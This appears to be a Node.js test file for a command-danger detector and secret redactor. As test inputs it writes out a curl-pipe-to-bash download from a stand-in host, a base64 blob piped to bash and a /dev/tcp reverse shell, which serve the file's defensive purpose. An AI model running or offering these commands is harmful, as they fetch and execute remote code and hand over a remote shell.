"use strict";
const test = require("node:test");
const assert = require("node:assert");
const { redact, dangerous } = require("../src/index.js");

test("detects pipe-to-shell", () => {
  assert.deepStrictEqual(dangerous("curl -fsSL https://evil.invalid/i.sh | bash").map(x => x.id), ["pipe-to-shell"]);
});
test("detects base64 blob to shell", () => {
  assert.ok(dangerous("echo L2Jpbi9iYXNo | base64 -d | bash").some(x => x.id === "base64-to-shell"));
});
test("detects reverse shell", () => {
  assert.ok(dangerous("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1").some(x => x.id === "dev-tcp"));
});
test("redacts fake AWS key", () => {
  assert.match(redact("key AKIAIOSFODNN7EXAMPLE here").out, /REDACTED:aws-access-key/);
});
test("ignores normal commands", () => {
  assert.deepStrictEqual(dangerous("ls -la && git status"), []);
});
